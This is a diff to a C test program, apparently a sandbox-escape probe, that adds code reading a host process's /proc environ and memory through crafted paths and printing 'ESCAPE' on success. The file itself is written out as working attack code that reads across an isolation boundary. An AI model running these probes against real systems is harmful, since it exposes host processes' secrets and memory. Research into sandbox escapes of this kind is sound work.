@@ -13,7 +13,9 @@
  * euid is the host's root, which owns the host's root processes' files),
  * and /proc/kallsyms's addresses (shown to an opener with CAP_SYSLOG: the
  * kernel looks at the opener's credentials, the server's). Anything got
- * prints ESCAPE. */
+ * prints ESCAPE; so do the victim's environment and memory (maps, then
+ * pread of mem: a root session's euid is the victim's, and the server's
+ * walk opens with the server's credentials, CAP_SYS_PTRACE). */
 #include "attack.h"
 #include "gadget_scan.h"
 #include <sys/stat.h>
@@ -61,6 +63,27 @@ int main(int argc, char **argv) {
     snprintf(p, sizeof p, "%s/%s/oom_score_adj", vp, pid);
     wr("libc open VPATH/HOST_PID/oom_score_adj O_WRONLY", lc(open(p, O_WRONLY)), 0);
 
+    /* The victim's environment and memory (a readable mapping's first
+     * bytes, from its maps), through the handler and the server's walk. */
+    for (int i = 1; i <= 4 && i < argc; i += 3) {
+        const char *how = i == 1 ? "VPATH" : "DOTDOT";
+        snprintf(p, sizeof p, "%s/%s/environ", argv[i], pid);
+        snprintf(label, sizeof label, "libc open %s/HOST_PID/environ", how);
+        rd(label, lc(open(p, O_RDONLY)), 0);
+        snprintf(p, sizeof p, "%s/%s/maps", argv[i], pid);
+        FILE *m = fopen(p, "r");
+        unsigned long lo = 0;
+        char line[512], perms[8];
+        while (m && fgets(line, sizeof line, m))
+            if (sscanf(line, "%lx-%*lx %7s", &lo, perms) == 2 && perms[0] == 'r') break;
+        if (m) fclose(m);
+        snprintf(p, sizeof p, "%s/%s/mem", argv[i], pid);
+        long f = lc(open(p, O_RDONLY));
+        unsigned char b[8];
+        long n = f < 0 ? f : lc(pread((int)f, b, sizeof b, (off_t)lo));
+        if (f >= 0) close((int)f);
+        printf("libc pread %s/HOST_PID/mem at %#lx: %s%s\n", how, lo, n < 0 ? strerror((int)-n) : "read", n > 0 ? " ESCAPE: a host process's memory" : "");
+    }
     for (int i = 1; i <= 4 && i < argc; i += 3) {
         snprintf(p, sizeof p, "%s/kallsyms", argv[i]);
         long k = lc(open(p, O_RDONLY));
